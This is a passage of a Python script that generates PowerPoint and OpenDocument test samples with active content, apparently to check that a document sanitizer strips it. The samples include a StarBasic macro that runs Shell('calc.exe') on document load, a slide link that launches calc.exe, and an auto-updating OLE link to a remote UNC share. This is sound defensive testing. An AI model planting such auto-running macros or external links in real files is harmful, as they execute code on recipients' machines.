          'accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>'
          '<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>')
    p.add_rel("ppt/slideMasters/slideMaster1.xml", "rId1", REL + "slideLayout", "../slideLayouts/slideLayout1.xml")
    p.add_rel("ppt/slideMasters/slideMaster1.xml", "rId2", REL + "theme", "../theme/theme1.xml")
    p.put("ppt/slideLayouts/slideLayout1.xml", XML_DECL + f'<p:sldLayout {P_NS} type="blank"><p:cSld name="Blank">'
          f'<p:spTree>{SP_TREE_HEAD}</p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>')
    p.add_rel("ppt/slideLayouts/slideLayout1.xml", "rId1", REL + "slideMaster", "../slideMasters/slideMaster1.xml")
    shapes = text_box(2, JA, 457200) + text_box(3, f"{JA} {tag}", 1200000) + extra_shapes
    if table:
        shapes += pptx_table()
    if picture:
        shapes += pptx_picture("rIdPic1")
        p.put("ppt/media/image1.png", png())
        p.add_rel("ppt/slides/slide1.xml", "rIdPic1", REL + "image", "../media/image1.png")
    p.put("ppt/slides/slide1.xml", XML_DECL + f'<p:sld {P_NS}><p:cSld><p:spTree>{SP_TREE_HEAD}{shapes}</p:spTree>'
          '</p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>')
    p.add_rel("ppt/slides/slide1.xml", "rId1", REL + "slideLayout", "../slideLayouts/slideLayout1.xml")
    return p


def powerpoint_samples(theme):
    out = []

    def sample(name, verdict, codes, shapes="", build=None, table=False, picture=False, pdf=1):
        tag = "sample-" + re.sub(r"[^a-z0-9]+", "-", name.lower())
        p = base_pptx(theme, tag, shapes, table, picture)
        if build:
            build(p)
        out.append((name, p.data(), verdict, codes, tag, "-", pdf))

    sample("clean-ja-slides.pptx", "unchanged", "-", table=True, picture=True)
    sample("action-program.pptx", "changed", "office.action_removed",
           text_box(4, "click me (calc.exe)", 3600000, '<a:hlinkClick r:id="rIdAct1" action="ppaction://program"/>'),
           lambda p: p.add_rel("ppt/slides/slide1.xml", "rIdAct1", REL + "hyperlink",
                               "file:///C:\\Windows\\System32\\calc.exe", True))
    sample("action-macro.pptx", "changed", "office.action_removed",
           text_box(4, "click me (macro)", 3600000, '<a:hlinkClick r:id="" action="ppaction://macro?name=Module1.Run"/>'))
    sample("ole-link-external.pptx", "changed", "office.external_relationship_removed|office.ole_object_removed",
           ole_frame("rIdOle1", '<p:link updateAutomatic="1"/>'),
           lambda p: p.add_rel("ppt/slides/slide1.xml", "rIdOle1", REL + "oleObject",
                               "file:///\\\\192.0.2.1\\share\\data.xlsx", True))

    def embed(p):
        p.put("ppt/embeddings/oleObject1.bin", ole_object_bin())
        p.default("bin", "application/vnd.openxmlformats-officedocument.oleObject")
        p.add_rel("ppt/slides/slide1.xml", "rIdOle1", REL + "oleObject", "../embeddings/oleObject1.bin")
    sample("ole-embedded.pptx", "changed", "office.ole_object_removed", ole_frame("rIdOle1", "<p:embed/>"), embed,
           picture=True)
    return out


# ---------------------------------------------------------------- ODF

ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:ooo="http://openoffice.org/2004/office" '
          'xmlns:dom="http://www.w3.org/2001/xml-events" office:version="1.2"')
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def odf(mime, body, scripts="", files=None, manifest_extra=""):
    """An ODF package: content.xml with `body` (inside office:body) and
    `scripts` (office:scripts), extra `files`, their manifest entries."""
    files = dict(files or {})
    p = Pkg()
    p.put("mimetype", mime)
    p.put("content.xml", XML_DECL + f'<office:document-content {ODF_NS}>'
          + (f"<office:scripts>{scripts}</office:scripts>" if scripts else "")
          + f"<office:body>{body}</office:body></office:document-content>")
    entries = "".join(f'<manifest:file-entry manifest:full-path="{esc(n)}" manifest:media-type="{esc(t)}"/>'
                      for n, (t, _) in files.items())
    p.put("META-INF/manifest.xml", XML_DECL + '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:'
          f'xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
          f'manifest:media-type="{mime}"/><manifest:file-entry manifest:full-path="content.xml" '
          f'manifest:media-type="text/xml"/>{entries}{manifest_extra}</manifest:manifest>')
    for n, (_, data) in files.items():
        if not n.endswith("/"):
            p.put(n, data)
    return p


def odt_text(tag, extra="", table=False, picture=False):
    s = f"<office:text><text:h text:outline-level=\"1\">{JA}</text:h><text:p>{JA} {tag}</text:p>"
    if table:
        s += ('<table:table table:name="表1"><table:table-column table:number-columns-repeated="2"/>'
              "<table:table-row><table:table-cell><text:p>項目</text:p></table:table-cell>"
              "<table:table-cell><text:p>金額</text:p></table:table-cell></table:table-row>"
              "<table:table-row><table:table-cell><text:p>印刷費</text:p></table:table-cell>"
              "<table:table-cell><text:p>5,000円</text:p></table:table-cell></table:table-row></table:table>")
    if picture:
        s += ('<text:p><draw:frame draw:name="img1" text:anchor-type="as-char" svg:width="1cm" svg:height="1cm">'
              '<draw:image xlink:href="Pictures/image1.png" xlink:type="simple" xlink:show="embed" '
              'xlink:actuate="onLoad"/></draw:frame></text:p>')
    return s + extra + "</office:text>"


def odf_samples():
    out = []
    pic = {"Pictures/image1.png": ("image/png", png())}

    def tag_of(name):
        return "sample-" + re.sub(r"[^a-z0-9]+", "-", name.lower())

    name = "clean-ja-writer.odt"
    out.append((name, odf(ODT, odt_text(tag_of(name), table=True, picture=True), files=pic).data(),
                "unchanged", "-", tag_of(name), "-", 1))

    name = "macro-basic.odt"
    basic = {
        "Basic/script-lc.xml": ("text/xml", XML_DECL + '<library:libraries xmlns:library="http://openoffice.org/2000/'
                                'library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name='
                                '"Standard" library:link="false"/></library:libraries>'),
        "Basic/Standard/script-lb.xml": ("text/xml", XML_DECL + '<library:library xmlns:library="http://openoffice.org/'
                                         '2000/library" library:name="Standard" library:readonly="false" '
                                         'library:passwordprotected="false"><library:element library:name="Module1"/>'
                                         '</library:library>'),
        "Basic/Standard/Module1.xml": ("text/xml", XML_DECL + '<script:module xmlns:script="http://openoffice.org/2000/'
                                       'script" script:name="Module1" script:language="StarBasic">Sub Main\n'
                                       '  Shell("calc.exe")\nEnd Sub\n</script:module>'),
    }
    scripts = ('<office:event-listeners><script:event-listener script:language="ooo:script" '
               'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic'
               '&amp;location=document"/></office:event-listeners>')
    out.append((name, odf(ODT, odt_text(tag_of(name)), files=basic).data(), "changed", "office.vba_removed",
                tag_of(name), "-", 1))

    name = "embedded-object.odt"
    obj_content = (XML_DECL + f'<office:document-content {ODF_NS}><office:body><office:spreadsheet>'
                   '<table:table table:name="S"><table:table-row><table:table-cell><text:p>calc.exe</text:p>'
                   '</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>'
                   '</office:document-content>')
    files = {"Object 1/": (ODS, b""), "Object 1/content.xml": ("text/xml", obj_content),
             "ObjectReplacements/Object 1": ("application/x-openoffice-gdimetafile;windows_formatname=\"GDIMetaFile\"",
                                             b"\x00" * 16)}
    frame = ('<text:p><draw:frame draw:name="Object1" text:anchor-type="as-char" svg:width="2cm" svg:height="1cm">'
             '<draw:object xlink:href="./Object 1" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
             '<draw:image xlink:href="./ObjectReplacements/Object 1" xlink:type="simple" xlink:show="embed" '
             'xlink:actuate="onLoad"/></draw:frame></text:p>')
    out.append((name, odf(ODT, odt_text(tag_of(name), frame, table=True), files=files).data(), "changed",
                "office.ole_object_removed", tag_of(name), "-", 1))

    name = "script-event.ods"
    body = (f'<office:spreadsheet><table:table table:name="予算"><table:table-row><table:table-cell office:value-type='
            f'"string"><text:p>{JA} {tag_of(name)}</text:p></table:table-cell></table:table-row></table:table>'
            '</office:spreadsheet>')
    out.append((name, odf(ODS, body, scripts).data(), "changed", "office.action_removed|office.vba_removed",
                tag_of(name), "-", 1))

    name = "macro-and-event.odt"
    out.append((name, odf(ODT, odt_text(tag_of(name)), scripts, files=basic).data(), "changed",
                "office.vba_removed", tag_of(name), "-", 1))
    return out


# ---------------------------------------------------------------- main


def main():
    global VBA, VBA_PATH
    args = sys.argv[1:]
    corpora = None
    if "--corpora" in args:
        i = args.index("--corpora")
        corpora = args[i + 1]
        del args[i:i + 2]
    if len(args) != 1:
        sys.exit(__doc__)
    outdir = args[0]
    os.makedirs(outdir, exist_ok=True)
    VBA = vba_project_bin(corpora)
    VBA_PATH = None
    theme = base_docx("theme").parts["word/theme/theme1.xml"]
    samples = word_samples() + excel_samples() + powerpoint_samples(theme) + odf_samples()
    with open(os.path.join(outdir, "manifest.tsv"), "w", encoding="utf-8") as m:
        m.write("# file\tverdict\tcodes\ttext\textension\tpdf (written by office_gen.py)\n")
        for name, data, verdict, codes, tag, ext, pdf in samples:
            with open(os.path.join(outdir, name), "wb") as f:
                f.write(data)
            m.write(f"{name}\t{verdict}\t{codes}\t{tag}\t{ext}\t{pdf}\n")
    print(f"office_gen: {len(samples)} samples in {outdir}")


VBA = b""
VBA_PATH = None

if __name__ == "__main__":
    main()
